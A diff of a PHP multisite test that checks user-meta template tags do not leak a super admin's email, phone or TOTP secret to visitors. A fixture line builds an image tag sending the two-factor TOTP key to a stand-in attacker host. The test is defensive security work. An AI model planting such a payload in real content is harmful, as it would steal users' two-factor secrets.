@@ -229,7 +229,7 @@ final class User_Data_Network_Test extends Multisite_Test_Case {
 						'post_content' => self::content( $tags ) . '<!-- wp:paragraph --><p><img src="https://attacker.example/?v={{user_meta key:_two_factor_totp_key|required:false}}" alt=""/></p><!-- /wp:paragraph -->',
 					)
 				);
-				$name = (string) get_userdata( self::SUPER_ADMIN )->display_name;
+				$name = (string) get_the_author_meta( 'display_name', self::SUPER_ADMIN );
 
 				foreach ( array( 0, self::SUPER_ADMIN, $admin ) as $visitor ) {
 					wp_set_current_user( $visitor );
@@ -237,7 +237,7 @@ final class User_Data_Network_Test extends Multisite_Test_Case {
 					$this->assertStringContainsString( 'T0= T1= T2= T3=' . $name . ' T4=+15559990000', $html, 'visitor ' . $visitor );
 					$this->assertStringNotContainsString( 'TOTPSECRET', $html, 'visitor ' . $visitor );
 					$this->assertStringNotContainsString( '+15550001111', $html, 'visitor ' . $visitor );
-					$this->assertStringNotContainsString( (string) get_userdata( self::SUPER_ADMIN )->user_email, $html, 'visitor ' . $visitor );
+					$this->assertStringNotContainsString( (string) get_the_author_meta( 'user_email', self::SUPER_ADMIN ), $html, 'visitor ' . $visitor );
 				}
 
 				// The super admin's own content still reads the super admin's data, and the site
